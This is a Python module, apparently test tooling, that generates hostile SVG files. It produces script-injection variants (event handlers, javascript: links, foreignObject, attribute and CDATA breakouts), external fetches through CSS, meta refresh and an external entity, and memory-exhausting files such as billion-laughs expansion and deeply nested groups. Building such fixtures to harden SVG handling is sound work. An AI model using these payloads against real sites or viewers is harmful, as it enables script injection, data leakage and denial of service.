"""Figures that try to run a script, or to fetch something, when a page shows them."""

SVG = "http://www.w3.org/2000/svg"
_HEAD = f'xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="20pt" height="10pt"'


def figures(run: str, spy: str) -> list[bytes]:
    """Write hostile SVG files.

    Args:
        run: A statement that leaves a trace when it runs; no quotes, no angle brackets.
        spy: An address where it is noticed that something is fetched.

    Returns:
        Contents of files.
    """
    inner = [
        f"<script>{run}</script>",
        f"<SCRIPT>{run}</SCRIPT>",
        f'<script xmlns="http://www.w3.org/1999/xhtml">{run}</script>',
        f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{run}</h:script>',
        f'<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.{run}'
        '&lt;/script&gt;"/>',
        f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{spy}/1" onerror="{run}"/>',
        f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{run}"/>'
        "</foreignObject>",
        f'<FOREIGNOBJECT><p xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{run}"/></p>'
        "</FOREIGNOBJECT>",
        f'<image xlink:href="x" onerror="{run}"/>',
        f'<image href="{spy}/2" width="9" height="9"/>',
        f'<image xlink:href="{spy}/3" width="9" height="9"/>',
        f'<rect width="9" height="9" onload="{run}" ONCLICK="{run}"/>',
        f'<animate attributeName="x" dur="1s" begin="0s" onbegin="{run}"/>',
        f'<a xlink:href="javascript:{run}"><rect width="9" height="9"/></a>',
        f'<set attributeName="href" to="javascript:{run}" onbegin="{run}"/>',
        f"<style>@import url({spy}/4); * {{ background: url({spy}/5) }}</style>",
        f'<rect width="9" height="9" style="fill: url({spy}/6#a); background: url({spy}/7)"/>',
        f'<rect width="9" height="9" style="background:u\\72l({spy}/8)"/>',
        f'<rect width="9" height="9" filter="url({spy}/9#a)" fill="url({spy}/10#a)"/>',
        f'<use href="{spy}/11#a"/>',
        f"<use href=\"data:image/svg+xml,&lt;svg id='a' onload='{run}'/&gt;#a\"/>",
        f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{spy}/12"/>',
        '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
        f'content="0;url={spy}/13"/>',
        f'<object xmlns="http://www.w3.org/1999/xhtml" data="{spy}/14"/>',
        f'<title>&lt;/title&gt;&lt;img src=x onerror="{run}"&gt;</title>',
        f'<g id="&quot;&gt;&lt;img src=x onerror={run}&gt;"/>',
        f'<path d="&quot;&gt;&lt;img src=x onerror={run}&gt;" transform="&lt;script&gt;{run}"/>',
        f"<text>&lt;script&gt;{run}&lt;/script&gt;</text>",
        f"<!-- --><![CDATA[</svg><script>{run}</script>]]>",
        f'<feImage href="{spy}/15"/>',
    ]
    roots = [
        f'<script xmlns="{SVG}" viewBox="0 0 9 9" width="9" height="9">{run}</script>',
        f'<svg {_HEAD} onload="{run}"><rect/></svg>',
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>',
        f'<h:svg xmlns:h="{SVG}" width="9" height="9"><h:script>{run}</h:script></h:svg>',
        f'<!DOCTYPE svg [<!ENTITY e "&lt;script>{run}&lt;/script>">]><svg {_HEAD}>&e;</svg>',
        f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{spy}/16">]><svg {_HEAD}>&e;</svg>',
        f'<svg {_HEAD} viewBox="0 0 9 9&quot;&gt;&lt;script&gt;{run}"><rect/></svg>',
    ]
    return [text.encode() for text in [*(f"<svg {_HEAD}>{one}</svg>" for one in inner), *roots]]


def exploding() -> list[bytes]:
    """Write SVG files that would fill the memory or the stack of whoever reads them."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    uses = "".join(f'<g id="u{n}">{f"""<use href="#u{n - 1}"/>""" * 10}</g>' for n in range(1, 12))
    return [
        f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]><svg {_HEAD}>&l11;</svg>'.encode(),
        f'<svg {_HEAD}><rect id="u0" width="1" height="1"/>{uses}<use href="#u11"/></svg>'.encode(),
        f"<svg {_HEAD}>{'<g>' * 100_000}{'</g>' * 100_000}</svg>".encode(),
        f'<svg {_HEAD.replace("20pt", "1e999")} viewBox="0 0 nan inf"/>'.encode(),
        f'<svg {_HEAD} viewBox="1"/>'.encode(),
        b'<?xml version="1.0" encoding="no-such"?><svg/>',
    ]
